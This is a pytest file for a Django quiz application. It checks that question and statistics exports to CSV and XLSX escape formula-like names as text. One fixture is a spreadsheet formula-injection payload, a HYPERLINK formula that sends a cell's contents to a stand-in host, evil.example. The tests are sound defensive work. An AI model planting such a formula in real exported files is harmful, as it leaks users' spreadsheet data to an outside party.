"""Question files and quiz statistics written by the product hold no live formula: a question
whose name or text starts like a formula shows as text, and reads back unchanged."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from quizzes.formats.spreadsheet import parse_csv, parse_xlsx
from quizzes.services.attempt_engine import save_answers, start_attempt, submit_attempt
from quizzes.services.exchange import category_records
from quizzes.services.question_files import export_category
from tests.factories.quizzes import QuestionFactory, enrol, make_quiz
from tests.quizzes.test_attempt_engine import right_answers

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def test_question_spreadsheets_write_formula_text_as_text_and_read_it_back(category):
    QuestionFactory(category=category, name=NAME, text="-1+1 là bao nhiêu?")
    book = load_workbook(io.BytesIO(export_category(category, "xlsx")))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + NAME in [cell.value for cell in cells]
    names = [q.name for q in parse_xlsx(export_category(category, "xlsx")).questions]
    assert NAME in names


def test_question_csv_writes_formula_text_as_text(category):
    from quizzes.formats.spreadsheet import export_csv

    QuestionFactory(category=category, name=NAME)
    questions, _categories = category_records(category)
    text = export_csv(questions)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert any("'" + NAME in row for row in rows)
    assert NAME in [q.name for q in parse_csv(text).questions]


def test_statistics_csv_shows_formula_like_names_as_text(
    client, trainer, category, course, officer
):
    question = QuestionFactory(category=category, name=NAME)
    quiz = make_quiz(course, [question])
    enrol(officer, course)
    attempt = start_attempt(officer, quiz)
    save_answers(attempt, officer, sequence=0, answers=right_answers(attempt))
    submit_attempt(attempt, officer)
    client.force_login(trainer)
    export = client.get(reverse("quizzes_admin:statistics", args=[quiz.pk]) + "?format=csv")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows if row and NAME in row[0]]
    assert names and set(names) == {"'" + NAME}
